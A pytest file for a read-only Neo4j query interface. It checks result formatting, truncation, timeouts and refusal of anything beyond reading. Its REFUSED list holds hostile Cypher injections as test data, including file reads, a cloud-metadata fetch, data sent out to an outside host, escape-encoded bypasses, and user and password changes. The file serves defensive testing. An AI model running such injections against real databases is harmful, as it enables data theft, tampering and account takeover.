"""The query desk on a real server: what it answers, and every way to make it do more than read, refused in a sentence."""

import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from graph.errors import BadSetting, FlockwatchError, StoreFault
from graph.neo4j import query_desk
from graph.neo4j.query_text import refuse_text
from graph.neo4j.server import Login, Neo4jServer
from graph.neo4j.store import Neo4jGraphStore
from tests.graph.neo4j_server import TestServer
from tests.graph.small_worlds import Tables, act, build_neo4j, meet

TOWN: Tables = {
    "accounts": [{"account_id": "ana", "handle": "Ana"}, {"account_id": "ben", "handle": "ben"}],
    "actions": [act("ana", "p1", 0), act("ben", "p1", 3), act("eve", "p1", 9), act("ana", "p2"), act("ben", "p2")],
    "interactions": [meet("ana", "ben", "reply", 1), meet("eve", "ana", "share", 3)],
}


@pytest.fixture
def connection(neo4j_server: TestServer) -> Iterator[Neo4jServer]:
    """One of its own: the desk may cut it."""
    with Neo4jServer(neo4j_server.url, Login("neo4j", neo4j_server.password)) as own:
        yield own


@pytest.fixture
def version(neo4j_connection: Neo4jServer, tmp_path: Path) -> int:
    with build_neo4j(neo4j_connection)(tmp_path / "town", TOWN) as store:
        assert isinstance(store, Neo4jGraphStore)
        return store.read().version


@pytest.mark.neo4j
def test_rows_come_as_plain_values_and_nodes_and_ties_once(connection: Neo4jServer, version: int):
    found = query_desk.ask(
        connection,
        version,
        "MATCH p = (a:Account {version: $version})-[t:INTERACTED]->(b) "
        "RETURN a, t, b, p, [a, b] AS both, {who: a.id} AS what, t.n + $more AS times ORDER BY a.key",
        {"more": 1},
    )
    assert found.columns == ("a", "t", "b", "p", "both", "what", "times")
    assert found.rows == (
        ("Ana", "INTERACTED reply", "ben", "Ana – INTERACTED reply – ben", ["Ana", "ben"], {"who": "ana"}, 2),
        ("eve", "INTERACTED share", "Ana", "eve – INTERACTED share – Ana", ["eve", "Ana"], {"who": "eve"}, 2),
    )
    assert [(one.label, one.name, one.account_id) for one in found.nodes] == [
        ("Account", "Ana", "ana"),
        ("Account", "ben", "ben"),
        ("Account", "eve", "eve"),
    ]
    assert [(tie.source, tie.target, tie.kind) for tie in found.ties] == [
        (0, 1, "INTERACTED reply"),
        (2, 0, "INTERACTED share"),
    ]
    assert found.left_out == ()


@pytest.mark.neo4j
def test_more_rows_than_the_limit_and_long_values_are_cut_and_said(connection: Neo4jServer, version: int):
    found = query_desk.ask(connection, version, "UNWIND range(1, 1000000000) AS x RETURN x", {}, most_rows=3)
    assert found.rows == ((1,), (2,), (3,))
    assert found.left_out == ("Left out: all rows after the first 3.",)
    long = query_desk.ask(connection, version, "RETURN range(1, 1000) AS x, $text AS y", {"text": "a" * 5_000})
    assert (len(long.rows[0][0]), len(long.rows[0][1])) == (query_desk.MOST_ITEMS, query_desk.MOST_SIGNS)
    assert long.left_out == ("Left out: parts of lists over 200 items and of texts over 2,000 signs.",)


REFUSED = [
    "CREATE (:Hacked)",
    "MERGE (h:Hacked) RETURN h",
    "MATCH (a) SET a.hacked = 1",
    "MATCH (a) REMOVE a.id RETURN a",
    "MATCH (a) DETACH DELETE a",
    "MATCH (a) CALL (a) { SET a.hacked = 1 } RETURN count(*)",
    "CALL { CREATE (h:Hacked) RETURN h } RETURN h",
    "MATCH (a) CALL (a) { SET a.hacked = 1 } IN TRANSACTIONS OF 10 ROWS",
    "MATCH (a) CALL (a) { RETURN 1 AS one } IN TRANSACTIONS RETURN one",
    "MATCH (a) FOREACH (x IN [1] | SET a.hacked = 1)",
    "RETURN 1 AS x UNION CREATE (h:Hacked) RETURN 1 AS x",
    "/* only a remark */ CREATE (:Hacked) // RETURN 1",
    "//\nMATCH (a) /* RETURN */ SET /* x */ a.hacked = 1",
    "RETURN 1; CREATE (:Hacked)",
    "MATCH (a) RETURN a; MATCH (a) DETACH DELETE a",
    "LOAD CSV FROM 'file:///etc/hostname' AS row RETURN row",
    "load  csv with headers from 'http://169.254.169.254/' as row return row",
    "RETURN COLLECT { LOAD CSV FROM 'file:///etc/hostname' AS row RETURN row } AS x",
    "MATCH (a) WHERE EXISTS { LOAD CSV FROM 'http://x/' + a.id AS row RETURN row } RETURN a",
    "\\u004cOAD CSV FROM 'file:///etc/hostname' AS row RETURN row",
    "CALL dbms.listConfig() YIELD name, value RETURN name, value",
    "CALL db.labels()",
    "RETURN EXISTS { CALL dbms.components() YIELD name RETURN name } AS x",
    "RETURN [x IN COLLECT { CALL db.labels() YIELD label RETURN label } | x] AS x",
    "CALL apoc.load.json('http://x/')",
    "CALL apoc.cypher.doIt('CREATE (:Hacked)', {})",
    "RETURN apoc.cypher.runFirstColumnSingle('MATCH (n) RETURN n', {})",
    "RETURN `apoc` . `util`.sleep (1)",
    "SHOW USERS",
    "SHOW TRANSACTIONS",
    "SHOW SETTINGS YIELD name, value RETURN name, value",
    "SHOW PROCEDURES",
    "SHOW DATABASES",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'abcdefgh'",
    "CREATE USER eve SET PASSWORD 'abcdefgh'",
    "DROP CONSTRAINT account_key",
    "CREATE INDEX hacked FOR (h:Hacked) ON (h.x)",
    "USE system MATCH (n) RETURN n",
    "PROFILE CREATE (:Hacked)",
    "EXPLAIN CREATE (:Hacked)",
    "CYPHER runtime=slotted CREATE (:Hacked)",
    "",
    " \n ",
    "RETURN " + "1 + " * 6_000 + "1",
    "this is not Cypher",
]


@pytest.mark.neo4j
@pytest.mark.parametrize("cypher", REFUSED)
def test_whatever_does_more_than_read_is_refused_in_a_sentence(
    connection: Neo4jServer, neo4j_server: TestServer, cypher: str
):
    with pytest.raises(FlockwatchError) as refused:
        query_desk.ask(connection, 0, cypher, {})
    assert len(refused.value.message.splitlines()) == 1
    assert isinstance(refused.value, BadSetting), refused.value
    found = neo4j_server.run("MATCH (n) WHERE n:Hacked OR n.hacked IS NOT NULL RETURN count(n) AS n").records
    assert found[0]["n"] == 0


@pytest.mark.neo4j
@pytest.mark.parametrize(
    "cypher",
    [
        "UNWIND range(1, 3000) AS a UNWIND range(1, 3000) AS b UNWIND range(1, 3000) AS c RETURN sum(a * b * c) AS x",
        "UNWIND range(1, 1000000000) AS x WITH x ORDER BY x % 7 RETURN x",
        "RETURN range(1, 200000000) AS x",
    ],
    ids=["a product without an end", "a sort without an end", "one row without an end"],
)
def test_what_never_ends_is_stopped(
    connection: Neo4jServer, version: int, monkeypatch: pytest.MonkeyPatch, cypher: str
):
    monkeypatch.setattr(query_desk, "_GRACE", 1.0)
    began = time.monotonic()
    with pytest.raises(StoreFault, match=r"took too long and was stopped|memory"):
        query_desk.ask(connection, version, cypher, {}, seconds=2.0)
    assert time.monotonic() - began < 20


@pytest.mark.neo4j
def test_a_version_that_was_replaced_is_said_and_not_half_answered(connection: Neo4jServer, version: int):
    with pytest.raises(StoreFault, match="was replaced while it was read"):
        query_desk.ask(connection, version + 1, "RETURN 1 AS x", {})


@pytest.mark.parametrize(
    "cypher",
    [
        "MATCH (a:Account {version: $version}) WHERE a.handle IN ['x.y(', \"apoc.z(\"] RETURN a.id",
        "MATCH (a) // apoc.load.json(1)\nRETURN count(a), datetime.truncate('day', datetime()), point.distance($a, $b)",
        "MATCH (a) WHERE a.id IN (CASE WHEN true THEN ['b'] ELSE [] END) RETURN a",
    ],
)
def test_texts_remarks_and_the_servers_own_functions_pass(cypher: str):
    refuse_text(cypher)
